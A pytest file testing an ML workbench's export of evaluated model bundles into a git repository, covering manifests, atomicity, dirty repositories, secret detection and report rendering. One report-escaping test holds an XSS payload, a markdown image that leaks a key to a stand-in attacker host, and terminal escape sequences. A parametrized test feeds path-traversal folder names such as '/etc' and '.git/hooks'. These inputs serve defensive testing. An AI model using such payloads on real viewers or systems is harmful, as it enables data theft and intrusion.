"""Export to a deployment git repository: content, atomicity, dirty repositories, secrets."""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
import tempfile
from pathlib import Path

import pytest
from mlflow import MlflowClient

import workbench as wb
from tests.promotion.conftest import Swept, fake_models, git, scripted_answer, write_project
from workbench.config import Settings, settings
from workbench.models import GEMMA_ID
from workbench.promotion import BundleConfig, ExportError, GitRepo, SecretFound
from workbench.testing import ScriptedModel

EASY = [{"kind": "min_questions", "n": 1}, {"kind": "metric", "metric": "hit_at_k", "min": 0.0}]


def state(repo: Path) -> tuple[str, str, str, str]:
    """What a user sees of a repository: HEAD, the checked-out branch, status, and the files of the working tree."""
    files = sorted(str(p.relative_to(repo)) for p in repo.rglob("*") if ".git" not in p.parts)
    return (git(repo, "rev-parse", "HEAD"), git(repo, "rev-parse", "--abbrev-ref", "HEAD"), git(repo, "status", "--porcelain"),
            "\n".join(files))


@pytest.fixture(scope="module")
def promoted(swept: Swept) -> Swept:
    """``assist-x``: the good prompt in staging and production; the sweep's parent run gets a plot."""
    for alias in ("staging", "production"):
        wb.promote(swept.run_id("good"), name="assist-x", alias=alias, gates=EASY, settings=swept.settings)
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
    plot = swept.root / "score.png"
    plot.write_bytes(png)
    MlflowClient(swept.settings.tracking_uri).log_artifact(swept.result.parent_run_id, str(plot), "plots")
    return swept


def test_export_commits_a_complete_bundle_on_a_new_branch(promoted: Swept, deploy_repo: Path) -> None:
    before = state(deploy_repo)
    result = wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings)
    assert result.branch == "promote/assist-x-production-v1" and result.bundle_dir == "assist-x/production"
    assert state(deploy_repo) == before  # HEAD, index and working tree untouched; only a new branch
    assert git(deploy_repo, "branch", "--list", result.branch).strip()
    listed = git(deploy_repo, "ls-tree", "-r", "--name-only", result.branch).split()
    bundle = {name.removeprefix("assist-x/production/") for name in listed if name.startswith("assist-x/production/")}
    core = {"config.yaml", "config.schema.json", "prompts/good.txt", "EVALUATION.md", "manifest.json", "plots/score.png",
            ".gitattributes", "corpus_documents.json"}  # each document's hash, for load_bundle to name those changed since
    assert core <= bundle and all(f.startswith("plots/") and f.endswith(".png") for f in bundle - core)  # the sweep's own plots
    assert "README.md" in listed  # built on top of HEAD
    assert git(deploy_repo, "rev-parse", f"{result.branch}~1").strip() == before[0].strip()

    def show(rel: str) -> bytes:
        import subprocess

        return subprocess.run(["git", "-C", str(deploy_repo), "show", f"{result.branch}:assist-x/production/{rel}"],
                              capture_output=True, check=True).stdout

    manifest = json.loads(show("manifest.json"))
    assert set(manifest["files"]) == bundle - {"manifest.json"}
    for rel, digest in manifest["files"].items():
        assert hashlib.sha256(show(rel)).hexdigest() == digest, rel
    assert manifest["mlflow"]["run_id"] == promoted.run_id("good") and manifest["mlflow"]["version"] == "1"
    assert manifest["mlflow"]["prompt_name"] == "assist-x-prompt" and manifest["mlflow"]["prompt_version"] >= 1
    assert manifest["audit"]["user"] == "alice" and manifest["audit"]["alias"] == "production"
    assert [g["gate"] for g in manifest["gates"]] == ["questions evaluated >= 1", "hit_at_k >= 0"]
    f1 = manifest["metrics"]["token_f1"]
    assert f1["value"] == pytest.approx(1.0) and f1["interval"]["n"] == 5
    assert manifest["metrics"]["input_tokens"]["interval"] is None  # a total, not a mean over questions
    # as is the cost: of a model that costs nothing, 0 is its questions' mean too, which gave it an interval, (n=5)
    assert manifest["metrics"]["cost_usd"]["interval"] is None and manifest["metrics"]["cost_usd"]["value"] == 0
    config = BundleConfig.from_yaml(show("config.yaml").decode())
    assert config.name == "assist-x" and config.corpus.path == "corpus" and config.prompt.registry_name == "assist-x-prompt"
    report = show("EVALUATION.md").decode()
    assert "# assist-x @ production — v1" in report and "![plots/score.png](plots/score.png)" in report
    assert "token_f1" in report and "alice" in report
    message = git(deploy_repo, "log", "-1", "--format=%B", result.branch)
    assert message.startswith("Promote assist-x v1 to production\n")
    assert "token_f1 1.000" in message and "Gates: 2 of 2 passed" in message and promoted.run_id("good") in message



def test_the_report_names_the_packages_the_run_was_evaluated_with(promoted: Swept, deploy_repo: Path) -> None:
    # a bundle is "the exact pipeline", but nothing in it said which workbench, llama-cpp-python or sentence-transformers
    # answered its evaluation: a deployment told to "load it with the workbench that exported it" could not know which,
    # and another llama.cpp build answers otherwise in places
    from importlib import metadata

    result = wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, branch="versions")
    report = git(deploy_repo, "show", f"{result.branch}:assist-x/production/EVALUATION.md")
    section = report.split("## Evaluated with\n", 1)[1].split("\n## ", 1)[0]
    for package in ("workbench", "mlflow", "chromadb"):
        assert f"| {package} | {metadata.version(package)} |" in section


def test_the_export_says_which_commit_its_branch_is_built_on(promoted: Swept, deploy_repo: Path) -> None:
    # a deployment repository left on another branch (an earlier export's, checked out; a feature branch) gave the new
    # branch that branch's commits too, and the export said nothing of it: its pull request to main carried them along
    git(deploy_repo, "checkout", "-q", "-b", "feature")
    git(deploy_repo, "commit", "-q", "--allow-empty", "-m", "unrelated work")
    on_feature = wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, branch="on-feature")
    assert on_feature.based_on == "feature"
    assert str(on_feature).endswith(f"on branch on-feature ({on_feature.commit[:10]}) in {on_feature.repo}, on top of branch feature "
                                    f"({git(deploy_repo, 'rev-parse', 'feature').strip()[:10]})")
    git(deploy_repo, "checkout", "-q", "main")
    on_main = wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, branch="on-main")
    assert on_main.based_on == "main" and str(on_main).endswith(f", on top of branch main ({git(deploy_repo, 'rev-parse', 'main').strip()[:10]})")
    git(deploy_repo, "checkout", "-q", "--detach", "main")
    detached = wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, branch="detached")
    assert detached.based_on is None and "on top of the detached HEAD (" in str(detached)


def test_a_reason_given_with_gates_that_passed_is_not_called_an_override(swept: Swept, deploy_repo: Path) -> None:
    """A release script passing --reason on every promotion: the commit said "OVERRIDE (gates failed)" right under "Gates:
    1 of 1 passed", and EVALUATION.md called it the override reason; a real override still says so."""
    wb.promote(swept.run_id("good"), name="assist-weekly", alias="staging", gates=EASY, override_reason="weekly release train",
               settings=swept.settings)
    passed = wb.export("assist-weekly", "staging", repo=deploy_repo, settings=swept.settings)
    message = git(deploy_repo, "log", "-1", "--format=%B", passed.branch)
    assert "Gates: 2 of 2 passed.\n" in message and "Reason: weekly release train\n" in message and "OVERRIDE" not in message
    report = git(deploy_repo, "show", f"{passed.branch}:assist-weekly/staging/EVALUATION.md")
    assert "| reason | weekly release train |" in report and "override reason" not in report
    wb.promote(swept.run_id("bad"), name="assist-weekly", alias="staging", override_reason="demo only", settings=swept.settings,
               gates=[{"kind": "metric", "metric": "token_f1", "min": 0.5}])
    overridden = wb.export("assist-weekly", "staging", repo=deploy_repo, settings=swept.settings)
    message = git(deploy_repo, "log", "-1", "--format=%B", overridden.branch)
    assert "Gates: 0 of 1 passed.\n" in message and "OVERRIDE (gates failed): demo only\n" in message
    assert "| override reason | demo only |" in git(deploy_repo, "show", f"{overridden.branch}:assist-weekly/staging/EVALUATION.md")


def test_the_bundles_intervals_are_the_comparisons_of_the_same_sweep(seeded: Swept, deploy_repo: Path) -> None:
    # EVALUATION.md and manifest.json resampled with seed 0, the sweep's comparison.json and wb.compare with its seed
    # (7 here): one run's token_f1 read [0.356, 0.584] in the bundle and [0.356, 0.581] in the comparison
    wb.promote(seeded.run_id("bad"), name="assist-seeded-export", alias="staging", gates=EASY, settings=seeded.settings)
    result = wb.export("assist-seeded-export", "staging", repo=deploy_repo, settings=seeded.settings, checkout=True)
    logged = wb.compare(seeded.result, metrics="token_f1").row(seeded.run_id("bad"), "token_f1")
    interval = json.loads((result.path / "manifest.json").read_text())["metrics"]["token_f1"]["interval"]
    assert interval["n"] == logged["n"] == 8
    assert (interval["estimate"], interval["low"], interval["high"]) == pytest.approx((logged["mean"], logged["mean_low"], logged["mean_high"]))
    other = wb.compare(seeded.result, metrics="token_f1", seed=0).row(seeded.run_id("bad"), "token_f1")
    assert (interval["low"], interval["high"]) != pytest.approx((other["mean_low"], other["mean_high"]))  # the seed shows here
    report = (result.path / "EVALUATION.md").read_text()
    assert "resampled with seed 7" in report
    # it said "95% percentile-bootstrap intervals": a reviewer recomputing them that way got narrower ones
    assert "95% expanded percentile-bootstrap intervals over questions (Hesterberg 2015" in report

def test_checkout_puts_the_bundle_on_disk(promoted: Swept, deploy_repo: Path) -> None:
    result = wb.export("assist-x", "staging", repo=deploy_repo, settings=promoted.settings, checkout=True)
    assert git(deploy_repo, "rev-parse", "--abbrev-ref", "HEAD").strip() == result.branch
    assert (result.path / "config.yaml").is_file() and (result.path / "manifest.json").is_file()
    assert git(deploy_repo, "status", "--porcelain") == ""


def test_a_clone_that_converts_line_ends_still_loads_the_bundle(promoted: Swept, deploy_repo: Path, tmp_path: Path) -> None:
    # Git for Windows clones with core.autocrlf=true: the bundle's text files came out with CRLF, their sha256 changed
    (deploy_repo / ".gitattributes").write_text("*.md text eol=crlf\n")  # the repository's own rules are left alone
    git(deploy_repo, "add", ".gitattributes")
    git(deploy_repo, "commit", "-q", "-m", "attributes")
    result = wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, bundle_dir="bundles/assist")
    clone = tmp_path / "clone"
    subprocess.run(["git", "-c", "core.autocrlf=true", "clone", "-q", "-b", result.branch, str(deploy_repo), str(clone)],
                   capture_output=True, check=True)
    assert (clone / "README.md").read_bytes() == b"deployment repo\r\n"  # the clone does convert
    assert git(clone, "show", "HEAD:.gitattributes") == "*.md text eol=crlf\n"
    bundle = wb.load_bundle(clone / result.bundle_dir, corpus_path=promoted.root / "corpus", index_dir=tmp_path / "index",
                            models=fake_models())
    assert bundle.template.text.startswith("GOOD") and b"\r\n" not in (clone / result.bundle_dir / "EVALUATION.md").read_bytes()



def test_files_are_stored_as_they_are_whatever_the_repository_converts(deploy_repo: Path, tmp_path: Path) -> None:
    git(deploy_repo, "config", "core.autocrlf", "true")  # an export made on Windows: git would store CRLF text as LF
    prompt = tmp_path / "prompt.txt"
    prompt.write_bytes(b"Context: {context}\r\nQuestion: {question}\r\n")
    blob = GitRepo(deploy_repo).hash_object(prompt.read_bytes())
    stored = subprocess.run(["git", "-C", str(deploy_repo), "cat-file", "blob", blob], capture_output=True, check=True).stdout
    assert stored == prompt.read_bytes()


class Interrupted(GitRepo):
    """A repository whose export is interrupted at one step."""

    def __init__(self, path: Path, step: str) -> None:
        super().__init__(path)
        self.step = step

    def _boom(self, step: str) -> None:
        if step == self.step:
            raise KeyboardInterrupt(f"interrupted at {step}")

    def hash_object(self, data: bytes) -> str:
        blob = super().hash_object(data)
        self._boom("hash_object")
        return blob

    def write_tree(self, index: Path) -> str:
        tree = super().write_tree(index)
        self._boom("write_tree")
        return tree

    def commit_tree(self, tree: str, parent: str | None, message: str, env) -> str:  # type: ignore[no-untyped-def]
        commit = super().commit_tree(tree, parent, message, env)
        self._boom("commit_tree")
        return commit


@pytest.mark.parametrize("step", ["hash_object", "write_tree", "commit_tree"])
def test_an_interrupted_export_leaves_the_repo_as_it_was(promoted: Swept, deploy_repo: Path, step: str) -> None:
    before = state(deploy_repo)
    refs = git(deploy_repo, "for-each-ref")
    with pytest.raises(KeyboardInterrupt):
        wb.export("assist-x", "production", repo=Interrupted(deploy_repo, step), settings=promoted.settings)
    assert state(deploy_repo) == before
    assert git(deploy_repo, "status", "--porcelain") == ""
    assert git(deploy_repo, "for-each-ref") == refs
    # and a retry succeeds
    assert wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings).commit


def test_an_export_killed_midway_leaves_no_copy_of_the_bundle_behind(promoted: Swept, deploy_repo: Path, tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """kill -9 skips every clean-up: what the temporary folder holds while git stores the files is what stays there."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    seen: list[list[str]] = []

    class Watched(GitRepo):
        def hash_object(self, data: bytes) -> str:
            seen.append(sorted(p.name for p in (tmp_path / "tmp").rglob("*") if p.is_file()))
            return super().hash_object(data)

    wb.export("assist-x", "production", repo=Watched(deploy_repo), settings=promoted.settings)
    assert seen and all(files in ([], ["index"]) for files in seen), seen  # the private index, no EVALUATION.md or prompt


def test_refuses_a_dirty_repo_unless_allowed(promoted: Swept, deploy_repo: Path) -> None:
    (deploy_repo / "notes.txt").write_text("work in progress\n")
    (deploy_repo / "README.md").write_text("edited\n")
    for n in range(3):  # the store of a project folder that is the deployment repository: named, not left to guess
        (deploy_repo / "mlruns" / str(n)).mkdir(parents=True)
        (deploy_repo / "mlruns" / str(n) / "meta.yaml").write_text("x\n")
    (deploy_repo / ".workbench").mkdir()
    (deploy_repo / ".workbench" / "x").write_text("x\n")
    with pytest.raises(ExportError, match=r"has uncommitted changes \(README.md, .workbench/, mlruns/ and 1 more\) — commit or stash "
                                          r"them \(files git does not track: commit them or list them in .gitignore\), or pass "):
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings)
    assert not git(deploy_repo, "branch", "--list", "promote/*").strip()
    result = wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, allow_dirty=True)
    assert "notes.txt" not in git(deploy_repo, "ls-tree", "-r", "--name-only", result.branch)
    assert (deploy_repo / "notes.txt").read_text() == "work in progress\n"


def test_a_dirty_repo_names_its_files_as_written(promoted: Swept, deploy_repo: Path) -> None:
    # git quotes such paths in its porcelain output: the error named "notes \303\251.txt" and "\"READ ME.md\"", and a
    # renamed file as "README.md -> READ ME.md"
    (deploy_repo / "notes é.txt").write_text("work in progress\n")
    git(deploy_repo, "mv", "README.md", "READ ME.md")
    with pytest.raises(ExportError, match=r"has uncommitted changes \(READ ME\.md, notes é\.txt\) — commit or stash"):
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings)


def test_refuses_to_write_secrets(promoted: Swept, deploy_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config_hash = wb.promote(promoted.run_id("good"), name="assist-x", alias="staging", gates=EASY, settings=promoted.settings).config_hash
    monkeypatch.setenv("DEPLOY_API_KEY", config_hash)  # a "secret" that appears in config.yaml and the manifest
    before, refs = state(deploy_repo), git(deploy_repo, "for-each-ref")
    with pytest.raises(SecretFound) as info:
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings)
    assert "config.yaml" in str(info.value) and "$DEPLOY_API_KEY" in str(info.value)
    assert config_hash not in str(info.value)
    assert state(deploy_repo) == before and git(deploy_repo, "for-each-ref") == refs


def test_clear_errors_for_bad_targets(promoted: Swept, deploy_repo: Path, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="not a git repository"):
        wb.export("assist-x", "production", repo=tmp_path, settings=promoted.settings)
    with pytest.raises(ExportError, match=r"README\.md: a file, not a folder — give the folder of a git repository"):
        wb.export("assist-x", "production", repo=deploy_repo / "README.md", settings=promoted.settings)
    git(tmp_path, "init", "-q", "--bare", "central.git")  # git init there would not help: it is a repository already
    for no_work_tree in (tmp_path / "central.git", deploy_repo / ".git"):
        with pytest.raises(ExportError, match=r"a git repository without a working tree \(bare, or a \.git folder\) — export into a clone"):
            wb.export("assist-x", "production", repo=no_work_tree, settings=promoted.settings)
    with pytest.raises(ExportError, match="no version of 'nobody' holds the alias 'production'"):
        wb.export("nobody", "production", repo=deploy_repo, settings=promoted.settings)
    wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings)
    with pytest.raises(ExportError, match="already exists"):
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings)


@pytest.mark.parametrize(("bundle_dir", "problem"), [
    ("/etc", "give a relative folder inside the repository"),
    (".", "give a relative folder inside the repository"),
    (".git/hooks", "give a relative folder inside the repository"),
    ("a/../../b", "give a relative folder inside the repository"),
    ("README.md/bundle", "'README.md' is a file in"),
])
def test_a_bundle_folder_outside_the_repository_or_under_a_file_is_refused(
    promoted: Swept, deploy_repo: Path, bundle_dir: str, problem: str
) -> None:
    before, refs = state(deploy_repo), git(deploy_repo, "for-each-ref")
    with pytest.raises(ExportError, match=re.escape(problem)):
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, bundle_dir=bundle_dir)
    assert state(deploy_repo) == before and git(deploy_repo, "for-each-ref") == refs
    # a folder written untidily is the folder it means
    result = wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, bundle_dir="deploy//./assist/")
    assert result.bundle_dir == "deploy/assist"


@pytest.mark.parametrize(("bundle_dir", "problem"), [
    (None, "bundle_dir 'assist-x/production': 'Assist-X' is a folder of {root} already, its name differing only in case: one "
           "folder on macOS and Windows — choose another folder (--bundle-dir), or rename it"),
    ("deploy/Aux/bot", "bundle_dir 'deploy/Aux/bot': 'Aux' names a device on Windows"),
    ("deploy./bot", "bundle_dir 'deploy./bot': 'deploy.' ends in a dot, which Windows drops"),
])
def test_a_bundle_folder_a_windows_or_macos_checkout_cannot_hold_is_refused(
    promoted: Swept, deploy_repo: Path, bundle_dir: str | None, problem: str
) -> None:
    # another model's bundle in Assist-X/: exported beside it, assist-x/ was the same folder in a macOS or Windows clone
    (deploy_repo / "Assist-X" / "production").mkdir(parents=True)
    (deploy_repo / "Assist-X" / "production" / "config.yaml").write_text("x: 1\n")
    git(deploy_repo, "add", "Assist-X")
    git(deploy_repo, "commit", "-q", "-m", "another bundle")
    before, refs = state(deploy_repo), git(deploy_repo, "for-each-ref")
    with pytest.raises(ExportError, match="^" + re.escape(problem.format(root=deploy_repo))):
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, bundle_dir=bundle_dir)
    assert state(deploy_repo) == before and git(deploy_repo, "for-each-ref") == refs


@pytest.mark.parametrize("bundle_dir", ["configs", "configs/assist"])
def test_a_bundle_folder_that_is_or_lies_in_a_submodule_is_refused(promoted: Swept, deploy_repo: Path, tmp_path: Path,
                                                                     bundle_dir: str) -> None:
    """The deployment repository keeps its configurations in a submodule: the export replaced the submodule by the
    bundle's folder on the new branch (merged, the submodule was gone), and inside it failed with git update-index's
    "--cacheinfo cannot add"."""
    inner = tmp_path / "configs-repo"
    inner.mkdir()
    git(inner, "init", "-q", "-b", "main")
    (inner / "app.yaml").write_text("x: 1\n")
    git(inner, "add", "app.yaml")
    git(inner, "-c", "user.name=x", "-c", "user.email=x@example.invalid", "commit", "-q", "-m", "configs")
    git(deploy_repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(inner), "configs")
    git(deploy_repo, "commit", "-q", "-m", "configs as a submodule")
    before, refs = state(deploy_repo), git(deploy_repo, "for-each-ref")
    with pytest.raises(ExportError, match=rf"^bundle_dir '{bundle_dir}': 'configs' is a submodule of {re.escape(str(deploy_repo))} — "
                       rf"export into its own repository \(--repo {re.escape(str(deploy_repo / 'configs'))}\), or choose another folder$"):
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, bundle_dir=bundle_dir)
    assert state(deploy_repo) == before and git(deploy_repo, "for-each-ref") == refs


def test_a_branch_that_blocks_the_new_branch_name_is_named(promoted: Swept, deploy_repo: Path) -> None:
    git(deploy_repo, "branch", "promote")  # git cannot have both 'promote' and 'promote/...'
    with pytest.raises(ExportError, match="branch 'promote' in .* makes a branch named 'promote/assist-x-production-v1' impossible"):
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings)


def test_a_checkout_blocked_by_local_changes_leaves_no_branch_behind(promoted: Swept, deploy_repo: Path) -> None:
    wb.export("assist-x", "staging", repo=deploy_repo, settings=promoted.settings, bundle_dir="assist", checkout=True)
    report = deploy_repo / "assist" / "EVALUATION.md"  # a file of the bundle in the folder, which the next export replaces
    report.write_text("my local edit\n")
    branch = git(deploy_repo, "rev-parse", "--abbrev-ref", "HEAD").strip()
    refs = git(deploy_repo, "for-each-ref")
    # git's reason, with the file it names, not its last line alone ("git checkout failed in ...: Aborting")
    with pytest.raises(ExportError, match=r"git checkout failed in .*: Your local changes to the following files would be "
                                          r"overwritten by checkout: assist/EVALUATION.md — nothing was exported .* commit or stash your local changes"):
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, bundle_dir="assist", allow_dirty=True,
                  checkout=True)
    assert git(deploy_repo, "for-each-ref") == refs  # the branch made for the export is gone again
    assert report.read_text() == "my local edit\n" and git(deploy_repo, "rev-parse", "--abbrev-ref", "HEAD").strip() == branch


def test_files_an_export_did_not_write_are_not_deleted_by_the_next(promoted: Swept, deploy_repo: Path) -> None:
    for rel in ("svc/README.md", "svc/k8s/deployment.yaml"):  # the team's own files where the bundle would go
        (deploy_repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (deploy_repo / rel).write_text("kind: Deployment\n")
    git(deploy_repo, "add", "svc")
    git(deploy_repo, "commit", "-q", "-m", "service")
    before, refs = state(deploy_repo), git(deploy_repo, "for-each-ref")
    with pytest.raises(ExportError, match=r"bundle_dir 'svc' in .* holds files no export of a bundle wrote \(README.md, "
                                          r"k8s/deployment.yaml\) — the export replaces the whole folder"):
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, bundle_dir="svc")
    assert state(deploy_repo) == before and git(deploy_repo, "for-each-ref") == refs
    # a folder holding an earlier export is replaced, as before, even when an older workbench wrote its manifest
    wb.export("assist-x", "staging", repo=deploy_repo, settings=promoted.settings, bundle_dir="svc/bundle", checkout=True)
    manifest = deploy_repo / "svc" / "bundle" / "manifest.json"
    manifest.write_text(json.dumps({"files": json.loads(manifest.read_text())["files"], "schema_version": 0}))
    git(deploy_repo, "commit", "-q", "-am", "an older manifest")
    result = wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, bundle_dir="svc/bundle")
    assert "svc/k8s/deployment.yaml" in git(deploy_repo, "ls-tree", "-r", "--name-only", result.branch)


def test_export_into_an_empty_repository(promoted: Swept, tmp_path: Path) -> None:
    repo = tmp_path / "fresh"
    repo.mkdir()
    git(repo, "init", "-q")
    result = wb.export("assist-x", "production", repo=repo, settings=promoted.settings, bundle_dir="bundles/assist")
    assert git(repo, "rev-list", "--count", result.branch).strip() == "1"
    assert "bundles/assist/config.yaml" in git(repo, "ls-tree", "-r", "--name-only", result.branch)


def test_a_later_run_of_a_registered_configuration_exports_its_own_evaluation(swept: Swept, deploy_repo: Path, tmp_path: Path) -> None:
    wb.promote(swept.run_id("good"), name="assist-later", alias="staging", gates=EASY, settings=swept.settings)
    later = wb.run(write_project(swept.root), settings=swept.settings, models=fake_models(), limit=3, progress=False)
    run_id = next(v.run_id for v in later.variants if v.variant.prompt.name == "good")  # type: ignore[union-attr]
    assert run_id != swept.run_id("good")
    promotion = wb.promote(run_id, name="assist-later", alias="staging", gates=EASY, settings=swept.settings)  # type: ignore[arg-type]
    assert promotion.version == "1"  # the same configuration: the same registered version
    result = wb.export("assist-later", "staging", repo=deploy_repo, settings=swept.settings)
    bundle = deploy_repo / "bundle"
    git(deploy_repo, "worktree", "add", "-q", str(bundle), result.branch)
    folder = bundle / result.bundle_dir
    config = BundleConfig.from_yaml((folder / "config.yaml").read_text())
    manifest = json.loads((folder / "manifest.json").read_text())
    assert config.source.run_id == run_id and config.dataset.cases == 3  # not the first run's source and 5 questions
    assert manifest["mlflow"]["run_id"] == run_id and manifest["metrics"]["questions"]["value"] == 3
    assert "(3 questions" in (folder / "EVALUATION.md").read_text()
    wb.load_bundle(folder, corpus_path=swept.root / "corpus", index_dir=tmp_path / "index", models=fake_models())  # its hashes hold


def test_evaluation_report_shows_costs_below_a_thousandth() -> None:
    from workbench.promotion._config import GateRecord, IntervalRecord, MetricRecord
    from workbench.promotion._report import _gate_rows, _metric_rows, _table

    metrics = {"cost_per_question_usd": MetricRecord(value=4.5e-4, interval=IntervalRecord(estimate=4.5e-4, low=3.1e-4, high=6.2e-4, n=8)),
               "token_f1": MetricRecord(value=0.6125)}
    table = _table(["metric", "value", "interval"], _metric_rows(metrics))  # EVALUATION.md read 0.000 [0.000, 0.001]
    assert "| cost_per_question_usd | 4.50e-04 | [3.10e-04, 6.20e-04] (n=8) |" in table and "| token_f1 | 0.613 |" in table
    gate = GateRecord(gate="cost per answer <= $0.001", kind="max_cost_per_answer", passed=True, value=4.5e-4, detail="$0.00045 per answer")
    assert "| PASS | cost per answer <= $0.001 | 4.50e-04 |" in _table(["", "gate", "value", "detail"], _gate_rows([gate]))


def test_evaluation_report_shows_counts_as_whole_numbers() -> None:
    from workbench.promotion._config import GateRecord, MetricRecord
    from workbench.promotion._report import _gate_rows, _metric_rows, _table

    metrics = {"questions": MetricRecord(value=5.0), "output_tokens": MetricRecord(value=307.0), "question_errors": MetricRecord(value=0.0),
               "generation_calls": MetricRecord(value=5.0), "token_f1": MetricRecord(value=1.0)}
    table = _table(["metric", "value", "interval"], _metric_rows(metrics))  # read 5.000 questions, 307.000 output tokens
    for row in ("| questions | 5 |", "| output_tokens | 307 |", "| question_errors | 0 |", "| generation_calls | 5 |", "| token_f1 | 1.000 |"):
        assert row in table, table
    gate = GateRecord(gate="at least 5 questions", kind="min_questions", passed=True, value=5.0, detail="5 questions")
    assert "| PASS | at least 5 questions | 5 | 5 questions |" in _table(["", "gate", "value", "detail"], _gate_rows([gate]))


def test_evaluation_report_shows_hostile_answers_as_text() -> None:
    """An answer (or a question, a corpus text) is the model's and the data's: its '<!--' hid the rest of the report,
    its HTML ran in a viewer that renders HTML, its markdown image loaded an attacker's address when the report was
    opened, and its terminal escapes reached whoever ran cat on the file."""
    from workbench.promotion._report import _table

    answer = "Sure <!-- <img src=x onerror=alert(1)> ![x](https://evil.example/?q=key) [y][1] \x1b]0;pwned\x07 \x1b[2J"
    table = _table(["case_id", "answer"], [["q\x1b[31m1", answer]])
    row = table.splitlines()[2]
    assert "<" not in row and "\x1b" not in row and "\x07" not in row and "](" not in row.replace("\\](", ""), row
    assert "&lt;!-- &lt;img src=x onerror=alert(1)>" in row and "![x\\](https://evil.example/?q=key)" in row
    assert row.startswith("| q\\x1b[31m1 | Sure ") and "\\x1b]0;pwned\\x07" in row


def test_evaluation_report_shows_a_bidirectional_override_instead_of_obeying_it() -> None:
    """An answer 'Refund: \u202e001$' showed in the report as 'Refund: $100': the override reversed the text after it
    (and the cells after it in a plain viewer); Arabic and Hebrew text with its direction marks is shown as written."""
    from workbench.promotion._report import _table

    row = _table(["case_id", "answer"], [["q1", "Refund: \u202e001$\u202c, \u2067ok\u2069"], ["q2", "\u200fمرحبا\u200f"]]).splitlines()[2:]
    assert row[0] == "| q1 | Refund: \\u202e001$\\u202c, \\u2067ok\\u2069 |", row
    assert row[1] == "| q2 | \u200fمرحبا\u200f |", row


def test_the_report_of_a_run_with_failed_questions_shows_their_errors_first(tmp_path: Path, deploy_repo: Path) -> None:
    """A promotion that overrode 'every question answered' exported a report whose failed questions had an empty answer
    and no error, somewhere in the table (past the first 50 rows, not at all)."""
    from workbench.prompts import RenderedPrompt
    from workbench.promotion import build_bundle

    cfg = settings(root=tmp_path, tracking_uri=f"sqlite:///{tmp_path / 'mlflow.db'}")

    def flaky(prompt: RenderedPrompt) -> str:
        if "instances" in prompt.text.split("Question:", 1)[1]:
            raise TimeoutError("the model timed out")
        return scripted_answer(prompt)

    models = {**fake_models(), GEMMA_ID: ScriptedModel(flaky, model_id=GEMMA_ID)}
    result = wb.run(write_project(tmp_path), settings=cfg, models=models, progress=False)
    run_id = next(v.run_id for v in result.variants if v.variant.prompt.name == "good")  # type: ignore[union-attr]
    wb.promote(run_id, name="assist-flaky", alias="staging", gates=EASY, override_reason="q3 times out; fixed upstream", settings=cfg)
    report = build_bundle("assist-flaky", "staging", settings=cfg)[0]["EVALUATION.md"].decode()
    table = report.split("## Per-question results", 1)[1].strip().splitlines()
    assert table[0].endswith("| error |") and table[2].startswith("| q3 | How are instances created? |"), table[:3]
    assert "TimeoutError: the model timed out |" in table[2] and table[3].startswith("| q1 |")


def test_the_report_and_the_runs_name_the_judge_that_scored_the_judged_metrics(tmp_path: Path, deploy_repo: Path) -> None:
    # faithfulness and answer relevancy judged by one model or another read the same in EVALUATION.md and in the MLflow
    # UI's run table: the judge was only in the sweep's experiment.yaml artifact
    from workbench.promotion import build_bundle
    from workbench.spec import ExperimentSpec
    from workbench.testing import ScriptedJudge

    cfg = settings(root=tmp_path, tracking_uri=f"sqlite:///{tmp_path / 'mlflow.db'}")
    data = write_project(tmp_path).to_dict(tmp_path)
    data["judge"] = {"id": GEMMA_ID, "n": 2, "max_tokens": 64, "context_window": 4096}
    data["scorers"] = ["token_f1", "hit_at_k", "answer_relevancy"]
    judge = ScriptedJudge(lambda _prompt, _schema: json.dumps({"question": "What is it?", "noncommittal": 0}))
    result = wb.run(ExperimentSpec.from_dict(data, base_dir=tmp_path), settings=cfg, models=fake_models(), judge=judge, progress=False)
    run_id = next(v.run_id for v in result.variants if v.variant.prompt.name == "good")  # type: ignore[union-attr]
    params = MlflowClient(cfg.tracking_uri).get_run(run_id).data.params
    assert {k: v for k, v in params.items() if k.startswith("judge.")} == {
        "judge.id": GEMMA_ID, "judge.n": "2", "judge.temperature": "0.0", "judge.max_tokens": "64", "judge.context_window": "4096"}
    wb.promote(run_id, name="assist-judged", alias="staging", gates=EASY, settings=cfg)
    report = build_bundle("assist-judged", "staging", settings=cfg)[0]["EVALUATION.md"].decode()
    assert f"| judge | {GEMMA_ID}; 2 repeats, temperature 0.0, max_tokens 64, context_window 4096 |" in report


def refused_export(repo: Path, name: str, cfg: Settings, match: str) -> None:
    """``wb.export(name, "staging")`` into ``repo`` is refused with an ExportError matching ``match``, the repository left as it was."""
    before = state(repo)
    with pytest.raises(ExportError, match=match):
        wb.export(name, "staging", repo=repo, settings=cfg)
    assert state(repo) == before


